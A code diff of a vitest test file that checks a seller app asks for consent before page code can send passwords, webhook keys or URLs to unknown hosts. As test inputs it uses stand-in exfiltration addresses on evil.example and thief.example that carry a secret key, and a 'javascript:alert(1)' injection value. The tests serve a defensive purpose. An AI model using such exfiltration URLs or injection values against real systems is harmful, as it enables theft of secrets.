@@ -1,11 +1,12 @@
-// What code in the page could send away by the app's own calls: each exit is asked about outside the page, or closed.
+// Ways for page code to send data out through app calls: each one asks outside the page, or is closed.
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterEach, beforeEach, expect, it } from 'vitest';
+import { beforeEach, expect, it } from 'vitest';
 import { activeLinks } from '../support/catalog-rows.ts';
-import { answered, Computer } from '../support/computer.ts';
+import { type Computer, unwrap } from '../support/computer.ts';
+import { startSignedIn } from '../support/computer-fixtures.ts';
 import { freePort } from '../support/free-port.ts';
-import { RecordingService, SELLER } from '../support/recording-service.ts';
+import { type RecordingService, SELLER } from '../support/recording-service.ts';
 
 const KEY = '0123456789abcdef'.repeat(4);
 const DECLINED = { ok: false, problem: { code: 'forbidden' } };
@@ -13,25 +14,18 @@ const DECLINED = { ok: false, problem: { code: 'forbidden' } };
 let service: RecordingService;
 let computer: Computer;
 beforeEach(async () => {
-  service = new RecordingService();
-  await service.start();
-  computer = await new Computer().start();
-  await computer.signIn(service);
+  ({ service, computer } = await startSignedIn());
   computer.agrees = false;
 });
-afterEach(async () => {
-  await computer.remove();
-  await service.stop();
-});
 
-/** Another spelling of this computer, which counts as another one: nothing of these tests leaves it. Nobody listens. */
+/** Another spelling of this computer, which counts as another host: nothing leaves it, and nothing listens there. */
 const elsewhere = async () => `https://[::ffff:7f00:1]:${await freePort()}`;
 
 it('signs in to a service on this computer without a question', () => {
   expect(computer.asked).toEqual([]);
 });
 
-it('sends the password to a new service only when the seller agrees', async () => {
+it('sends the password to a new service only if the seller agrees', async () => {
   const serviceAddress = await elsewhere();
   expect(await computer.call['session.signIn']({ serviceAddress, ...SELLER })).toMatchObject(DECLINED);
   computer.agrees = true;
@@ -43,7 +37,7 @@ it('sends the password to a new service only when the seller agrees', async () =
   expect(computer.asked[0]).not.toContain(SELLER.password);
 });
 
-it('signs in again to a service that a store here has without a question, and asks for any other path of it', async () => {
+it('signs in again to a known service without a question, and asks for any other path of it', async () => {
   const serviceAddress = await elsewhere();
   await computer.stop();
   const list = join(computer.dataFolder, 'stores.json');
@@ -58,14 +52,14 @@ it('signs in again to a service that a store here has without a question, and as
   expect(other).toMatchObject(DECLINED);
 });
 
-it('shows and copies the saved webhook key only when the seller agrees', async () => {
-  await answered(computer.call['webhook.save']({ url: 'https://hooks.example/', isOn: true, key: KEY }));
+it('shows and copies the saved webhook key only if the seller agrees', async () => {
+  await unwrap(computer.call['webhook.save']({ url: 'https://hooks.example/', isOn: true, key: KEY }));
   expect(await computer.call['webhook.revealKey'](undefined)).toMatchObject(DECLINED);
   expect(await computer.call['webhook.copySavedKey'](undefined)).toMatchObject(DECLINED);
   expect(computer.copied).toEqual([]);
   computer.agrees = true;
   expect(await computer.call['webhook.revealKey'](undefined)).toEqual({ ok: true, value: { key: KEY } });
-  await answered(computer.call['webhook.copySavedKey'](undefined));
+  await unwrap(computer.call['webhook.copySavedKey'](undefined));
   expect(computer.copied).toEqual([KEY]);
   const name = computer.store.deps.record().name;
   expect(computer.asked.map((text) => text.split('?')[0])).toEqual([
@@ -77,7 +71,7 @@ it('shows and copies the saved webhook key only when the seller agrees', async (
   expect(computer.asked.join()).not.toContain(KEY);
 });
 
-it('asks nothing about a key that is not there', async () => {
+it('asks nothing about a missing key', async () => {
   expect(await computer.call['webhook.revealKey'](undefined)).toMatchObject({ problem: { code: 'not-found' } });
   expect(computer.asked).toEqual([]);
 });
@@ -90,8 +84,8 @@ it('opens the checkout page of a link and the practice store’s sales, and no o
   const [link] = activeLinks(computer.store);
   const url = link?.paymentLink ?? '';
   expect(url).toMatch(/^https?:/);
-  await answered(open(url));
-  await answered(open('http://127.0.0.1:4010/sales'));
+  await unwrap(open(url));
+  await unwrap(open('http://127.0.0.1:4010/sales'));
   for (const other of [
     `https://evil.example/?${KEY}`,
     `${url}&key=${KEY}`,
@@ -106,22 +100,22 @@ it('opens the checkout page of a link and the practice store’s sales, and no o
   expect(computer.asked).toEqual([]);
 });
 
-it('asks before it opens an address that was added by hand, at a host that the service has not named', async () => {
+it('asks before it opens an address added by hand, on a host that the service has not named', async () => {
   const productId = await computer.product('Coaching hour');
   await computer.settled();
   const url = `https://evil.example/mara/118?uuid=${KEY}`;
   const draft = { prices: [{ currencyId: 2, priceCents: 100, discountCents: null }], useOnce: false, metadata: [] };
-  await answered(computer.call['links.addExisting']({ productId, paymentLink: url, ...draft } as never));
+  await unwrap(computer.call['links.addExisting']({ productId, paymentLink: url, ...draft } as never));
   expect(await open(url)).toMatchObject(DECLINED);
   expect(computer.opened).toEqual([]);
   expect(computer.asked[0]).toContain('Open evil.example in the browser?');
   expect(computer.asked[0]).toContain(url);
   computer.agrees = true;
-  await answered(open(url));
+  await unwrap(open(url));
   expect(computer.opened).toEqual([url]);
 });
 
-it('asks before it opens an address that was typed for a change in doubt', async () => {
+it('asks before it opens an address typed for a change in doubt', async () => {
   const productId = await computer.product('Coaching hour');
   await computer.settled();
   service.intercept = ({ path }) => (path.endsWith('/payment-links') ? { status: 500, body: '{}' } : undefined);
@@ -129,32 +123,32 @@ it('asks before it opens an address that was typed for a change in doubt', async
   await expect.poll(() => computer.store.outbox.status().attention).toBe(1);
   const [doubt] = computer.store.outbox.unfinished();
   const url = `https://evil.example/mara/118?uuid=${KEY}`;
-  await answered(computer.call['sync.markAsSent']({ id: doubt?.id ?? '', answer: url }));
+  await unwrap(computer.call['sync.markAsSent']({ id: doubt?.id ?? '', answer: url }));
   expect(await open(url)).toMatchObject(DECLINED);
   expect(computer.opened).toEqual([]);
   expect(computer.asked[0]).toContain('Open evil.example in the browser?');
 });
 
-it('opens the store page that was typed in only when the seller agrees, where its host is not known', async () => {
+it('opens a typed store page only if the seller agrees, unless its host is known', async () => {
   const open = () => computer.call['stores.openPage'](undefined);
   expect(await open()).toEqual({ ok: true, value: { opened: false } });
   const { id: storeId, name } = computer.store.deps.record();
   const fields = { storeId, name, checkoutUrl: '', sellerSlug: '', undocumentedProductUpdate: false };
   const save = (pageUrl: string) => computer.call['stores.update']({ ...fields, pageUrl });
   expect(await save('javascript:alert(1)')).toMatchObject({ problem: { fields: { pageUrl: expect.any(String) } } });
-  await answered(save('https://thief.example/?all=everything'));
+  await unwrap(save('https://thief.example/?all=everything'));
   expect(await open()).toMatchObject(DECLINED);
   expect(computer.opened).toEqual([]);
   expect(computer.asked).toEqual([expect.stringContaining('Open thief.example in the browser?')]);
   computer.agrees = true;
   expect(await open()).toEqual({ ok: true, value: { opened: true } });
-  await answered(save(`${service.url}/admin`));
+  await unwrap(save(`${service.url}/admin`));
   computer.agrees = false;
   expect(await open()).toEqual({ ok: true, value: { opened: true } });
   expect(computer.opened).toEqual(['https://thief.example/?all=everything', `${service.url}/admin`]);
 });
 
-it('says in its own words that a sign-in was refused where those of the service contain the password', async () => {
+it('reports a refused sign-in in its own words if the service’s message contains the password', async () => {
   const refusal = { status: 401, body: JSON.stringify({ message: 'The email or the password is wrong.' }) };
   service.intercept = ({ path }) => (path.endsWith('/login') ? refusal : undefined);
   const signIn = (password: string) =>
